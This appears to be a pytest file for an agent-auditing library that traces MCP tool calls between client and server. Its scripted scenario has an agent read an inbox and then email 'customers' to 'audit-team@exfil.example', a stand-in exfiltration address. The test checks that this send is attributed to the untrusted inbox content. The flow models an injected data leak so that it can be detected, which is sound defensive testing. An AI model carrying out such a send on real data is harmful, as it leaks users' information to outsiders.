"""Client and server in different processes, over stdio and streamable HTTP."""

from __future__ import annotations

import asyncio
import hashlib
import json
from pathlib import Path
from typing import Any

import pytest
import rfc8785

import agentaudit
from agentaudit.schema import attributes as A
from tests.frameworks.conftest import Spans
from tests.frameworks.mcp._client import http_server, http_session, stdio_session
from tests.frameworks.mcp._jsonl import wait_for_spans
from tests.frameworks.mcp._sdk import is_error
from tests.frameworks.mcp._server_app import EMAIL

pytestmark = pytest.mark.timeout(120)


def _server_tool(spans: list[dict[str, Any]], name: str) -> list[dict[str, Any]]:
    return [
        s
        for s in spans
        if s["attributes"].get(A.GEN_AI_TOOL_NAME) == name
        and s["attributes"].get(A.FRAMEWORK) == "mcp"
    ]


def _text(result: Any) -> str:
    return "".join(getattr(block, "text", "") for block in result.content)


async def _scenario(session: Any) -> tuple[str, list[dict[str, Any]]]:
    """read_inbox, the model input that contains it, then send_email."""
    with agentaudit.context(agent="mail-assistant", user="bob", session="sess-9"):
        inbox = await session.call_tool("read_inbox", {"folder": "inbox"})
        messages: list[dict[str, Any]] = [
            {"role": "user", "content": "Summarise my new email."},
            {"role": "tool", "content": _text(inbox)},
        ]
        agentaudit.record_prompt(messages, model="scripted-1")
        sent = await session.call_tool(
            "send_email", {"to": "audit-team@exfil.example", "body": "customers"}
        )
    assert _text(inbox) == EMAIL
    return _text(sent), messages


def _check_pair(spans: Spans, server_spans: list[dict[str, Any]], name: str) -> dict[str, Any]:
    client = spans.tool(name)
    (server,) = _server_tool(server_spans, name)
    assert client.kind.name == "INTERNAL"
    assert server["kind"] == "SERVER"
    assert client.context is not None
    assert server["trace_id"] == format(client.context.trace_id, "032x")
    assert server["parent_span_id"] == format(client.context.span_id, "016x")
    attrs = server["attributes"]
    # One call, two sides: the same tool-call id (the client span's, sent in _meta).
    client_attrs = dict(client.attributes or {})
    assert client_attrs[A.CALL_SIDE] == A.CALL_SIDE_CLIENT
    assert attrs[A.CALL_SIDE] == A.CALL_SIDE_SERVER
    assert attrs[A.GEN_AI_TOOL_CALL_ID] == client_attrs[A.GEN_AI_TOOL_CALL_ID]
    assert attrs[A.GEN_AI_TOOL_CALL_ID] == format(client.context.span_id, "016x")
    assert attrs[A.ENDUSER_ID] == "bob"
    assert attrs[A.SESSION_ID] == "sess-9"
    assert attrs[A.GEN_AI_AGENT_ID] == "mail-assistant"
    assert attrs[A.GEN_AI_OPERATION_NAME] == "execute_tool"
    assert server["name"] == f"execute_tool {name}"
    return attrs


def _check_client_send(spans: Spans, messages: list[dict[str, Any]]) -> None:
    attrs = dict(spans.tool("send_email").attributes or {})
    assert attrs[A.FRAMEWORK] == "mcp"
    assert attrs[A.ENDUSER_ID] == "bob"
    assert json.loads(str(attrs[A.GEN_AI_TOOL_CALL_ARGUMENTS]))["to"] == "audit-team@exfil.example"
    expected = "sha256:" + hashlib.sha256(rfc8785.dumps(messages)).hexdigest()
    assert attrs[A.PROMPT_HASH] == expected
    inbox = spans.tool("read_inbox")
    assert inbox.context is not None
    ref = f"tool:read_inbox#{inbox.context.span_id:016x}"
    refs = list(attrs[A.SOURCE_REFS])  # type: ignore[arg-type]
    assert ref in refs
    assert list(attrs[A.SOURCE_TRUST])[refs.index(ref)] == "untrusted"  # type: ignore[arg-type]


def test_stdio_server_span_is_parented_to_the_client_span_with_the_callers_identity(
    spans: Spans, tmp_path: Path
) -> None:
    server_file = tmp_path / "server-spans.jsonl"

    async def run() -> tuple[str, list[dict[str, Any]]]:
        async with stdio_session(server_file) as session:
            return await _scenario(session)

    sent, messages = asyncio.run(run())
    assert sent == "sent to audit-team@exfil.example"
    server_spans = wait_for_spans(
        server_file, lambda found: len(_server_tool(found, "send_email")) == 1
    )
    _check_pair(spans, server_spans, "read_inbox")
    attrs = _check_pair(spans, server_spans, "send_email")
    assert A.GEN_AI_CONVERSATION_ID not in attrs  # stdio has no transport session id
    _check_client_send(spans, messages)


def test_streamable_http_server_span_records_the_mcp_session_id(
    spans: Spans, tmp_path: Path
) -> None:
    server_file = tmp_path / "server-spans.jsonl"

    async def run() -> tuple[str, list[dict[str, Any]]]:
        async with http_server(server_file) as url, http_session(url) as session:
            return await _scenario(session)

    sent, messages = asyncio.run(run())
    assert sent == "sent to audit-team@exfil.example"
    server_spans = wait_for_spans(
        server_file, lambda found: len(_server_tool(found, "send_email")) == 1
    )
    inbox = _check_pair(spans, server_spans, "read_inbox")
    send = _check_pair(spans, server_spans, "send_email")
    conversation = send[A.GEN_AI_CONVERSATION_ID]
    assert isinstance(conversation, str)
    assert conversation
    assert inbox[A.GEN_AI_CONVERSATION_ID] == conversation
    _check_client_send(spans, messages)


def test_tool_errors_on_both_sides(spans: Spans, tmp_path: Path) -> None:
    server_file = tmp_path / "server-spans.jsonl"

    async def run() -> Any:
        async with stdio_session(server_file) as session:
            with agentaudit.context(agent="mail-assistant", user="bob", session="sess-9"):
                return await session.call_tool("broken_inbox", {"folder": "archive"})

    result = asyncio.run(run())
    assert is_error(result)
    assert _text(result).startswith("Error executing tool broken_inbox")  # what the SDK says
    client = spans.tool("broken_inbox")
    assert (client.attributes or {})[A.ERROR_TYPE] == "tool_error"
    assert not client.status.is_ok
    server_spans = wait_for_spans(server_file, lambda f: len(_server_tool(f, "broken_inbox")) == 1)
    (server,) = _server_tool(server_spans, "broken_inbox")
    assert server["attributes"][A.ERROR_TYPE] == "tool_error"
    assert server["status"] == "ERROR"


def test_interleaved_sessions_on_one_connection_keep_their_own_identity(
    spans: Spans, tmp_path: Path
) -> None:
    server_file = tmp_path / "server-spans.jsonl"

    async def one(session: Any, user: str) -> None:
        with agentaudit.context(agent="mail-assistant", user=user, session=f"sess-{user}"):
            for _ in range(3):
                await session.call_tool("send_email", {"to": f"{user}@corp.example", "body": "x"})
                await asyncio.sleep(0)

    async def run() -> None:
        async with stdio_session(server_file) as session:
            await asyncio.gather(one(session, "bob"), one(session, "carol"))

    asyncio.run(run())
    server_spans = wait_for_spans(server_file, lambda f: len(_server_tool(f, "send_email")) == 6)
    clients = {
        format(s.context.span_id, "016x"): dict(s.attributes or {})  # type: ignore[union-attr]
        for s in spans.tools("send_email")
    }
    assert len(clients) == 6
    for server in _server_tool(server_spans, "send_email"):
        client = clients[server["parent_span_id"]]
        user = client[A.ENDUSER_ID]
        assert server["attributes"][A.ENDUSER_ID] == user
        assert server["attributes"][A.SESSION_ID] == f"sess-{user}"
        assert json.loads(server["attributes"][A.GEN_AI_TOOL_CALL_ARGUMENTS])["to"] == (
            f"{user}@corp.example"
        )
